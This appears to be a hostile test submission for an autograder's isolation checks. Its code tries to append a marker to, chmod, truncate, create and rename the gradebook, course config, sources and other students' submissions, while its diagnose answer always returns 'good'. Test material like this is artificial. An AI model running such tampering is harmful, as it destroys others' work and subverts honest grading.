# variant-of: wrong_always_good
# Family 5, where no mount namespace hides the course: overwrite, append to, create, remove,
# rename, chmod and truncate the course's files ({COURSE}: the gradebook, source/, release/,
# other students' submissions, the config); every write that lands leaves the marker
# LRLAB-PWNED. Graded by tests/test_isolation_paths.py, which checks
# that no course file changed or carries the marker.
# %% answer: diagnose_answer
import glob as _glob
import os as _os

_MARK = "LRLAB-" + "PWNED"
_done = []


def _try(what, fn):
    try:
        fn()
        _done.append(f"WROTE {what}")
    except Exception as exc:
        _done.append(f"{what}: {type(exc).__name__}")


def _append(path):
    with open(path, "a") as handle:
        handle.write(f"\n{_MARK}\n")


for _pattern in ("gradebook.db", "nbgrader_config.py", "source/*/*", "release/*/*", "submitted/*/*/*"):
    for _path in _glob.glob(_os.path.join("{COURSE}", _pattern)):
        if _os.path.isfile(_path):
            _try(_path, lambda p=_path: _append(p))
            _try("chmod " + _path, lambda p=_path: _os.chmod(p, 0o777))
            _try("truncate " + _path, lambda p=_path: _os.truncate(p, 0))
for _name in ("pwned.txt", "source/pwned.txt", "submitted/pwned.txt"):
    _try(_name, lambda n=_name: open(_os.path.join("{COURSE}", n), "w").write(_MARK))
_try("rename source", lambda: _os.rename(_os.path.join("{COURSE}", "source"), _os.path.join("{COURSE}", "gone")))
print("\n".join(_done))


def diagnose(train_loss, val_loss):
    if len(train_loss) != len(val_loss) or len(train_loss) < 5:
        raise ValueError("bad input")
    return "good"
